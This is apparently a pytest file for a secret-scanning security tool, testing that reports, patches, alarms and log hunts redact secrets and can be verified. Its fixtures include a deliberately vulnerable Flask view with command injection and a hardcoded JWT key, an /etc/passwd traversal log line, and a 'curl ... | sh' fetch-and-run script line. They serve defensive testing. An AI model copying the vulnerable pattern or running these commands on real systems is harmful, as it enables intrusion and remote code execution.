"""Whatever is reported, secrets are hidden in it, and a report says where they are and can be checked."""

from __future__ import annotations

from functools import lru_cache
from pathlib import Path

import msgspec
import pytest

from tests.test_hunt import Desk
from tests.toys import plant, still
from vedette.app import fix, scan, verify
from vedette.app.code_analyser import CodeAnalyser, load
from vedette.app.fix_requests import Fix
from vedette.app.jobs import Job
from vedette.app.live.alarms import Alarms
from vedette.app.redaction import Redactor
from vedette.app.reports import LastReport
from vedette.app.requests import Scan, Verify
from vedette.app.results import Scanned
from vedette.app.tools import Tools
from vedette.core import codec
from vedette.core.errors import BadInput
from vedette.core.limits import DEFAULTS
from vedette.core.nouns import Confidence, Evidence, Finding, Lines, Report, Role, Severity
from vedette.core.redaction import HIDDEN
from vedette.core.sources import SourceFile
from vedette.hunt.signal import Place, Signal
from vedette.store.cache import Memory

# Put together here, so that no text of the project holds what looks like a key.
KEY = "AKIA" + "Q7X4ZT2MBN5VWCHD"
WORD = "h7Kq2mVx" + "9ZtLw4Rb"
SETTINGS = f'DATABASE_PASSWORD = "{WORD}"\n'
VIEWS = f"""import os, jwt
from flask import request
def run():
    os.system("mysql -p{WORD} -e " + request.args["q"])
    return jwt.encode({{}}, "open sesame now", algorithm="HS256")
"""


@lru_cache(maxsize=1)
def engine() -> CodeAnalyser:
    return load([], None)


def tools(data: Path) -> Tools:
    return Tools(
        limits=DEFAULTS,
        clock=still(),
        load=lambda *_: engine(),
        open_cache=Memory,
        last=LastReport(data),
        events=data,
    )


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return plant(tmp_path / "app", {"settings.py": SETTINGS, "views.py": VIEWS})


def scanned(root: Path, **wishes: object) -> Scanned:
    wish = Scan(target=str(root), **wishes)  # type: ignore[arg-type]  # wishes of it
    return scan.run(tools(root.parent / "data"), wish, Job())


def broken(report: Report, root: Path) -> list[str]:
    path = root.parent / "report.json"
    path.write_bytes(codec.dump(report))
    return [one.why for one in verify.run(tools(root.parent / "data"), Verify(report=path), Job()).broken]


def test_no_report_holds_a_secret_and_each_says_where_it_is_and_which(root: Path) -> None:
    made = scanned(root)
    for report in (made.report, LastReport(root.parent / "data").load()):
        text = codec.dump(report).decode()
        assert WORD not in text
        assert "open sesame" not in text
    told = {(one.rule, one.primary.name, one.primary.quote) for one in made.report.findings}
    assert ("hardcoded-secret", "settings.py", "h7Kq" + 12 * HIDDEN) in told
    assert any(f"mysql -ph7Kq{12 * HIDDEN} -e" in quote for _, _, quote in told)


def test_lines_around_a_place_hold_none_and_are_as_long(root: Path) -> None:
    made = scanned(root)
    lines = [line for one in made.report.artefacts for line in made.lines(one.digest) or ()]
    assert WORD not in "\n".join(lines)
    assert list(map(len, lines)) == [len(one) for text in (SETTINGS, VIEWS) for one in text.split("\n")]


def test_what_was_hidden_is_known_again_also_where_it_stands_alone(root: Path) -> None:
    assert broken(scanned(root).report, root) == []


def test_a_mask_hides_no_wrong_quote(root: Path) -> None:
    report = scanned(root).report
    for say, instead in (
        ("mysql", 5 * HIDDEN),
        (f"h7Kq{HIDDEN}", f"h7Kx{HIDDEN}"),
        ("algorithm", 9 * HIDDEN),
    ):
        text = codec.dump(report).decode().replace(f'"{say}', f'"{instead}').replace(say, instead)
        assert broken(codec.load(text.encode(), Report), root), say


def test_what_is_no_secret_any_more_is_told(root: Path) -> None:
    report = scanned(root).report
    plant(root, {"settings.py": SETTINGS.replace(WORD, "please change me")})
    assert any("the file says 'please change me'" in one for one in broken(report, root))


def test_fingerprints_baselines_and_suppressions_go_by_what_stands_there(root: Path) -> None:
    every = scanned(root).report
    plain = engine().scan(
        [
            SourceFile(name, one.artefact, 0, (root / name).read_bytes)
            for name, one in {e.name: e for f in every.findings for e in f.evidence}.items()
        ],
        None,
        lambda *_: None,
    )
    assert {one.fingerprint for one in plain.findings} == {one.fingerprint for one in every.findings}
    path = root.parent / "before.json"
    path.write_bytes(codec.dump(every))
    assert scanned(root, baseline=str(path)).report.findings == ()


def test_patches_are_made_of_what_stands_there(root: Path) -> None:
    means = fix.Means(tools=tools(root.parent / "data"), folder=root.parent / "agents")
    fixed = fix.run(means, Fix(target=str(root), rule="hardcoded-secret", run=False, apply=True), Job())
    assert any(one.accepted is not None for one in fixed.mendings)
    assert WORD not in (root / "settings.py").read_text()
    findings = msgspec.json.encode([one.finding for one in fixed.mendings]).decode()
    assert WORD not in findings
    assert f"h7Kq{HIDDEN}" in findings


def test_a_file_that_cannot_be_read_any_more_is_hidden_as_far_as_the_quote_tells() -> None:
    def gone() -> bytes:
        raise BadInput("it is gone", hint="none")

    where = Lines(line=1, column=1, end_line=1, end_column=3)
    digest = "sha256:" + "0" * 64
    one = Evidence(
        artefact=digest,
        name="a.py",
        locator=where,
        quote=f"x {KEY}",
        role=Role.SINK,
        note="an AWS access key id",
    )
    finding = Finding(
        rule="r",
        title="t",
        message=f"the key {KEY}",
        severity=Severity.HIGH,
        confidence=Confidence.LIKELY,
        reason="because",
        evidence=(one,),
        fingerprint="f",
    )
    redactor = Redactor([SourceFile("a.py", digest, 1, gone)], [finding])
    made = redactor.without(finding)
    assert KEY not in str(made)
    assert made.primary.quote.endswith("WCHD")
    assert redactor.lines(digest) is None


def test_what_holds_no_secret_is_given_back_as_it_is(root: Path) -> None:
    plant(root, {"settings.py": "x = 1\n", "views.py": "def f(text):\n    eval(text)\n"})
    report = scanned(root).report
    assert report.findings
    assert Redactor((), report.findings).without(report) is report


def test_what_logs_say_is_hidden_in_a_hunt_and_known_again(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    line = '203.0.113.9 - - [03/Mar/2026:21:00:00 +0000] "GET /a?f=../../../etc/passwd&k={} HTTP/1.1" 200 9\n'
    (tmp_path / "access.log").write_text(line.format(KEY) * 9)
    report = desk.hunts(str(tmp_path / "access.log"))
    assert f"AKIA{HIDDEN}" in str(report["findings"])
    assert KEY not in str(report)
    assert desk.says("verify", str(tmp_path / "report.json"))[0] == 0
    other = line.format("nothing-that-is-hidden--")
    (tmp_path / "access.log").write_text(other * 9)
    assert desk.says("verify", str(tmp_path / "report.json"))[0] == 1


def test_what_was_judged_is_hidden_but_for_indicators_and_known_again(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    (tmp_path / "x.sh").write_text(f"#!/bin/sh\nAWS={KEY} curl -s http://bad-cdn.invalid/i.sh | sh\n")
    code, out, _ = desk.says("triage", str(tmp_path / "x.sh"), "-f", "json", "-o", str(tmp_path / "r.json"))
    report = (tmp_path / "r.json").read_text()
    assert code == 1, out
    assert KEY not in report
    assert f"AWS=AKIA{HIDDEN}" in report
    assert desk.says("verify", str(tmp_path / "r.json"))[0] == 0


def test_an_alarm_carries_none() -> None:
    signal = Signal(
        rule="r",
        title="t",
        message=f"sent {KEY}",
        severity=Severity.HIGH,
        confidence=Confidence.LIKELY,
        reason="because",
        first=1,
        last=1,
        places=(Place(0, 7, "message", f"key {KEY}"),),
    )
    (alarm,) = Alarms().new([signal], {0: "a.log"})
    assert KEY not in str(alarm)
    assert f"AKIA{HIDDEN}" in alarm.places[0]
